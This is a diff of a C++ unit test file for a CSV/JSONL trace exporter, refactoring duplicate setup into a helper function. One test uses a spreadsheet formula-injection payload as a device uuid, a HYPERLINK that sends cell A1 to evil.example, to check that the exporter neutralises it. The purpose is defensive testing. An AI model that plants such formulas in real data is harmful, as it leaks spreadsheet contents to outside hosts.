@@ -53,6 +53,27 @@ auto lines_of(const std::string& text) -> std::vector<std::string> {
   return lines;
 }
 
+/// Writes a trace at `path` of one device with `uuid` and its one sample synthetic::sample(0, 0, 1), then
+/// exports it as CSV into `lines` (the header and one line); fails the test on any error.
+void export_one_sample_as_csv(const std::filesystem::path& path, const std::string& uuid,
+                              std::vector<std::string>& lines) {
+  core::DeviceInfo device;
+  device.uuid = uuid;
+  const auto raw = synthetic::sample(0, 0, 1);
+  {
+    auto writer = Writer::open(path);
+    ASSERT_TRUE(writer);
+    ASSERT_TRUE(writer->write_devices(std::span(&device, 1)));
+    ASSERT_TRUE(writer->append(raw, core::derive(raw, device)));
+    ASSERT_TRUE(writer->close());
+  }
+  auto reader = Reader::open(path);
+  ASSERT_TRUE(reader);
+  std::ostringstream out;
+  ASSERT_TRUE(export_csv(*reader, out));
+  lines = lines_of(out.str());
+}
+
 class ExportTest : public ::testing::Test {
  protected:
   void SetUp() override {
@@ -122,25 +143,12 @@ TEST_F(ExportTest, csv_has_header_catalog_columns_and_round_trip_numbers) {
 }
 
 TEST_F(ExportTest, csv_quotes_text_with_commas_and_quotes) {
-  const auto path = dir_.file("q.sqlite");
-  core::DeviceInfo odd;
-  odd.uuid = "GPU-a,\"b\"";
-  const auto raw = synthetic::sample(0, 0, 1);
-  {
-    auto writer = Writer::open(path);
-    ASSERT_TRUE(writer);
-    ASSERT_TRUE(writer->write_devices(std::span(&odd, 1)));
-    ASSERT_TRUE(writer->append(raw, core::derive(raw, odd)));
-    ASSERT_TRUE(writer->close());
-  }
-  auto reader = Reader::open(path);
-  ASSERT_TRUE(reader);
-  std::ostringstream out;
-  ASSERT_TRUE(export_csv(*reader, out));
-  const auto lines = lines_of(out.str());
+  const std::string uuid = "GPU-a,\"b\"";
+  std::vector<std::string> lines;
+  ASSERT_NO_FATAL_FAILURE(export_one_sample_as_csv(dir_.file("q.sqlite"), uuid, lines));
   ASSERT_EQ(lines.size(), 2u);
   EXPECT_THAT(lines[1], ::testing::StartsWith("0,\"GPU-a,\"\"b\"\"\","));
-  EXPECT_EQ(split(lines[1])[1], odd.uuid);
+  EXPECT_EQ(split(lines[1])[1], uuid);
 }
 
 TEST(CsvCellTest, a_cell_that_a_spreadsheet_would_run_as_a_formula_starts_with_a_quote) {
@@ -169,26 +177,14 @@ TEST(CsvCellTest, a_cell_that_a_spreadsheet_would_run_as_a_formula_starts_with_a
 }
 
 TEST_F(ExportTest, csv_neutralises_a_formula_in_a_uuid) {
-  const auto path = dir_.file("f.sqlite");
-  core::DeviceInfo evil;
-  evil.uuid = "=HYPERLINK(\"http://evil.example/\"&A1,\"GPU-0\")";
-  const auto raw = synthetic::sample(0, 0, 1);
-  {
-    auto writer = Writer::open(path);
-    ASSERT_TRUE(writer);
-    ASSERT_TRUE(writer->write_devices(std::span(&evil, 1)));
-    ASSERT_TRUE(writer->append(raw, core::derive(raw, evil)));
-    ASSERT_TRUE(writer->close());
-  }
-  auto reader = Reader::open(path);
-  ASSERT_TRUE(reader);
-  std::ostringstream out;
-  ASSERT_TRUE(export_csv(*reader, out));
-  const auto lines = lines_of(out.str());
+  const std::string uuid = "=HYPERLINK(\"http://evil.example/\"&A1,\"GPU-0\")";
+  std::vector<std::string> lines;
+  ASSERT_NO_FATAL_FAILURE(export_one_sample_as_csv(dir_.file("f.sqlite"), uuid, lines));
   ASSERT_EQ(lines.size(), 2u);
   // Before: the cell was the formula itself.
-  EXPECT_EQ(split(lines[1])[1], "'" + evil.uuid);
-  EXPECT_EQ(split(lines[1])[2], std::to_string(raw.t_start_ns)) << "numbers are left as they are";
+  EXPECT_EQ(split(lines[1])[1], "'" + uuid);
+  EXPECT_EQ(split(lines[1])[2], std::to_string(synthetic::sample(0, 0, 1).t_start_ns))
+      << "numbers are left as they are";
 }
 
 TEST_F(ExportTest, jsonl_one_object_per_sample_with_nulls_for_unknown) {
